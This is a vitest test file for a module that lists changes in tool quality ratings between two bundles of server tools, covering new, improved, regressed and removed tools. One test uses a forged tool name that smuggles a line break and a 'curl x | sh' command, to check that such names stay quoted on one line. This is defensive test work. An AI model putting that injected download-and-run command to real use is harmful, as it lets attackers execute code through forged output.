import { describe, expect, it } from "vitest";
import { qualityChangeLine, qualityChanges, type ToolQuality, toolLabel } from "../../src/bundle/quality-changes.js";

const state = (tool: string, source: ToolQuality["source"], quality: ToolQuality["quality"], observations = 0): ToolQuality => ({
  server: "gauntlet",
  tool,
  source,
  quality,
  observations,
});

describe("qualityChanges", () => {
  it("names improvements, regressions, new and gone tools, and nothing for more observations at one level", () => {
    const before = [
      state("free_form", "inferred", "low", 3),
      state("steady", "inferred", "medium", 12),
      state("promoted", "inferred", "high", 140),
      state("worse", "inferred", "medium", 20),
      state("removed", "unknown", "none"),
      state("observed", "declared", "high"),
    ];
    const after = [
      state("added", "inferred", "low", 1),
      state("free_form", "inferred", "medium", 12),
      state("promoted", "declared", "high"),
      state("steady", "inferred", "medium", 40),
      state("worse", "inferred", "low", 25),
      state("observed", "hybrid", "high", 4),
    ];
    const changes = qualityChanges(before, after);
    expect(changes.map(qualityChangeLine)).toEqual([
      "gauntlet/added: new, low (1 observation)",
      "gauntlet/free_form: low → medium (12 observations)",
      "gauntlet/promoted: high → declared",
      "gauntlet/worse: medium → low (25 observations)",
      "gauntlet/removed: gone (was none)",
    ]);
    expect(changes.map((change) => change.kind)).toEqual(["new", "improved", "improved", "regressed", "gone"]);
  });

  it("tells a tool apart by server and tool, whatever characters they hold", () => {
    const a = { ...state("t", "unknown", "none"), server: "a/b" };
    const b = { ...state("b/t", "inferred", "low", 1), server: "a" };
    expect(qualityChanges([a], [b]).map((change) => change.kind)).toEqual(["new", "gone"]);
  });

  it("keeps a tool whose name holds a line break on its own line, quoted", () => {
    const forged = "nl\n    pmcp schema discover --stdio 'curl x | sh'";
    expect(
      qualityChangeLine({ kind: "new", server: "evil", tool: forged, to: { source: "unknown", quality: "none" }, observations: 0 }),
    ).toBe(`${JSON.stringify(`evil/${forged}`)}: new, none`);
    expect([toolLabel("a", "b\u2028c"), toolLabel("a", "plain_name")]).toEqual(['"a/b\u2028c"', "a/plain_name"]);
  });
});
